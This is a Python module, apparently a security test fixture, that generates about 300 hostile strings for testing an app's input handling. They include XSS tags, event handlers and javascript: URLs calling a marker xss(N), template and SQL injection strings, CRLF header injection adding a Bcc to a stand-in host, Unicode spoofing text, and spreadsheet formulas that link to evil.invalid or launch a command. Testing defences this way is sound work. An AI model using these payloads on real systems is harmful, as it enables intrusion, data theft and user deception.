# SPDX-License-Identifier: Apache-2.0
"""300 texts that somebody might store to be run, to break out, or to lie by how they look; each calls xss(N) where it can."""

CALL = "xss(%d)"


def tags(n):
    call = CALL % n
    for tag in ("script", "SCRIPT", "ScRiPt ", "script/x", "script\t", "svg><script", "math><script", "noscript><script", "template><script", "title><script"):
        yield f"<{tag}>{call}</script>"
    for text in ("<script src=https://evil.invalid/{n}.js></script>", "<script src=//evil.invalid/{n}></script>", "<script src=data:text/javascript,{c}></script>",
                 "<script type=module>{c}</script>", "<iframe srcdoc='<script>parent.{c}</script>'>", "<iframe src=javascript:{c}>", "<object data=javascript:{c}>",
                 "<embed src=javascript:{c}>", "<base href=https://evil.invalid/>", "<meta http-equiv=refresh content='0;url=https://evil.invalid/{n}'>",
                 "<link rel=stylesheet href=https://evil.invalid/{n}.css>", "<style>@import 'https://evil.invalid/{n}.css';</style>", "<img src=https://evil.invalid/{n}.png>",
                 "<form action=https://evil.invalid/{n}><button>Chấp thuận</button></form>", "<plaintext>{c}", "<xmp>{c}", "<listing>{c}", "<frameset onload={c}>",
                 "<!--><script>{c}</script>", "<![CDATA[<script>{c}</script>]]>", "<?xml version='1.0'?><script>{c}</script>", "<%= {c} %>", "</td></tr></table><h1>{c}",
                 "</span></td><td>đã duyệt", "</main></body></html>", "<script", "<", "<<script>{c}//<</script>"):
        yield text.format(c=call, n=n)


def attributes(n):
    call = CALL % n
    for quote in ('"', "'", "`", ""):
        for text in ("{q}><img src=x onerror={c}>", "{q} onmouseover={c} x={q}", "{q} autofocus onfocus={c} x={q}", "{q} style=position:fixed;inset:0 onclick={c} {q}",
                     "{q}/><svg onload={c}>", "x{q} onerror={q}{c}"):
            yield text.format(q=quote, c=call)


def handlers(n):
    call = CALL % n
    for tag, event in (("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("body", "onpageshow"), ("details open", "ontoggle"), ("video", "onloadstart"),
                       ("video src=x", "onerror"), ("audio src=x", "onerror"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("marquee", "onstart"),
                       ("iframe src=/", "onload"), ("object data=x", "onerror"), ("img src=/style/mark.svg", "onload"), ("div style=animation:spin 1s", "onanimationstart"),
                       ("a tabindex=1", "onfocusin"), ("p", "onpointerenter"), ("b", "onwheel"), ("x contenteditable", "onbeforeinput"), ("style", "onload"),
                       ("link rel=stylesheet href=/style/style.css", "onload"), ("image src=x", "onerror"), ("isindex", "onclick"), ("math", "onmouseover"),
                       ("form", "onsubmit"), ("dialog open", "onclose"), ("body", "onhashchange"), ("body", "onmessage")):
        yield f"<{tag} {event}={call}>"
        yield f"<{tag}/{event.upper()}='{call}'//"


def urls(n):
    call = CALL % n
    for text in ("javascript:{c}", "JaVaScRiPt:{c}", "java\tscript:{c}", "\x01javascript:{c}", "javascript://%0a{c}", "javascript&colon;{c}", "data:text/html,<script>{c}</script>",
                 "data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=", "vbscript:{c}", "blob:https://evil.invalid/{n}", "//evil.invalid/{n}", "https://evil.invalid/{n}",
                 "https://localhost@evil.invalid/{n}", "\\\\evil.invalid\\{n}", "file:///etc/passwd", "mailto:a@b.example?bcc=thief@evil.invalid", "tel:+1900\r\nX", "#1", "#?state=approved",
                 "?lang=en", "../../v1/admin/me", "/v1/admin/requests/1/refuse", "<a href='javascript:{c}'>Xét duyệt</a>", "<a href=https://evil.invalid/{n} target=_top>x</a>",
                 "view-source:javascript:{c}"):
        yield text.format(c=call, n=n)


def entities(n):
    call = CALL % n
    for text in ("&lt;script&gt;{c}&lt;/script&gt;", "&#60;script&#62;{c}&#60;/script&#62;", "&#x3c;img src=x onerror={c}&#x3e;", "&amp;lt;script&amp;gt;{c}", "&quot;&gt;&lt;svg onload={c}&gt;",
                 "%3Cscript%3E{c}%3C/script%3E", "%253Cscript%253E{c}", "\\u003cscript\\u003e{c}", "\\x3cscript\\x3e{c}", "&NewLine;javascript&colon;{c}", "+ADw-script+AD4-{c}+ADw-/script+AD4-",
                 "&nbsp;&lt;b&gt;", "&#0;<b>", "&#x202e;", "&lt;/td&gt;", "&notanentity;", "%00<script>{c}</script>", "\\74script\\76{c}", "＜script＞{c}＜/script＞", "‹img src=x onerror={c}›"):
        yield text.format(c=call)


def unicode_tricks(_):
    yield from ("\u202eTH\u1eacT \u0110\u00c3 DUY\u1ec6T", "An\u202e gnud gnohK \u202c", "\u2067\u2067\u2067moc.live", "\u2066a\u2069\u2069\u2069b", "\u200f\u200f1900 0000", "\u061c12345",
                "Ngu\u200by\u1ec5n V\u0103n A", "\u200b", "\u200b\u200c\u200d\ufeff", "a\u00adb\u00adc", "\u2060\u2061\u2062\u2063", "N\u0433uy\u1ec5n V\u0430n \u0410n", "\u0131\u0456ocalhost",
                "\uff21\uff50\uff50\uff52\uff4f\uff56\uff45", "\U0001d400\U0001d429\U0001d429", "Z\u0335\u0322\u0321" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306" * 6 + "algo",
                "\u0e49" * 30, "a" + "\u0301" * 60, "\ufdfd" * 12, "\U0001242b" * 20, "\u05d0\u05d1\u05d2 (123) \u05d3", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 12-34", "\ufffe\uffff", "\ufeffBOM",
                "\u2028<b>\u2029", "a\u0085b", "\x7f\x08\x08\x08\x08DUY\u1ec6T", "\x1b[31mred\x1b[0m", "\U000e0041\U000e0042\U000e007f", "\ufe0e\ufe0f", "\u3164\u115f\u1160\uffa0", "\u2800" * 20,
                "\u3000" * 20 + "x", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u2024\u2025\u2026", "\u1680\u2000\u2001\u2002x", "\u212a\u017f\u0130", "nguye\u0302\u0303n", "\ud7a3" * 40,
                "W" * 254, "i" * 254, "Đ" * 120, "漢" * 80, "1" * 254, "_" * 254, "a-" * 127, "a.b@" * 60, "\u00a0" * 60 + "x", ("x" * 40 + " ") * 6, "\t" * 40 + "x", "\n" * 40 + "x")


def templates(n):
    call = CALL % n
    for text in ("{{{{{c}}}}}", "{{{{constructor.constructor('{c}')()}}}}", "${{{c}}}", "#{{{c}}}", "<%= {c} %>", "{{% {c} %}}", "[[{c}]]", "{{name}}", "{{number}}", "{{email}}", "{{count}}", "{{0}}",
                 "$&", "$`$'", "$1$$", "%s%d%n", "%c%o", "{{name}} {{name}} {{name}}", "*{{{c}}}", "@{{{c}}}", "`${{{c}}}`", "ng-app ng-csp {{{{x}}}}", "v-html={c}", "{{t}}"):
        yield text.format(c=call)


def clobbering(n):
    for name in ("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "then", "location", "document", "undefined", "null", "true", "NaN", "[object Object]"):
        yield name
    for tag, key, name in (("a", "id", "status"), ("form", "name", "main"), ("img", "name", "getElementById"), ("form", "id", "config"), ("input", "name", "phrase"), ("input", "name", "reason"),
                           ("a", "id", "main"), ("form", "name", "body"), ("img", "id", "fetch"), ("button", "id", "unlock")):
        yield f"<{tag} {key}={name} value=xss({n}) href=javascript:xss({n})>"


def breakouts(n):
    call = CALL % n
    for text in ('";{c}//', "';{c}//", "`;{c}//", '\\";{c}//', "\\';{c}//", '"}}]}};{c}//', '","state":"approved","x":"', "</script><script>{c}</script>", "*/{c}/*", "//\n{c}", "<!--\n{c}", "-->{c}",
                 ");{c};(", "}});{c};({{", '{{"csrf":"x"}}', "[1,2", "\\u0022;{c}//", "\\", "\\\\", "'", '"', "`", "&", "'; DROP TABLE request; --", "' OR '1'='1", '" UNION SELECT name FROM person --', "a\r\nBcc: thief@evil.invalid",
                 "a\r\n\r\n<script>{c}</script>", "from=approved to=refused", "error=ok how=call_back"):
        yield text.format(c=call)


def spreadsheet(n):
    for first in "=+-@\t\r":
        yield f"{first}HYPERLINK(\"https://evil.invalid/{n}\",\"Xem\")"
        yield f"{first}cmd|' /C calc'!A0"


CATEGORIES = {"tags": tags, "attributes": attributes, "handlers": handlers, "urls": urls, "entities": entities, "unicode": unicode_tricks, "templates": templates,
              "clobbering": clobbering, "breakouts": breakouts, "spreadsheet": spreadsheet}
COUNT = 300


def payloads():
    """(category, text), each text once, without NUL, which no store keeps."""
    found = {}
    for category, make in CATEGORIES.items():
        for number, text in enumerate(make(1)):
            again = list(make(len(found) + 1))[number]
            found.setdefault(again.replace("\0", ""), category)
    return [(category, text) for text, category in found.items()]


def cut(text, size):
    """As many characters as have room, in UTF-8."""
    return text.encode()[:size].decode(errors="ignore")


if __name__ == "__main__":
    print({name: sum(c == name for c, _ in payloads()) for name in CATEGORIES}, len(payloads()))
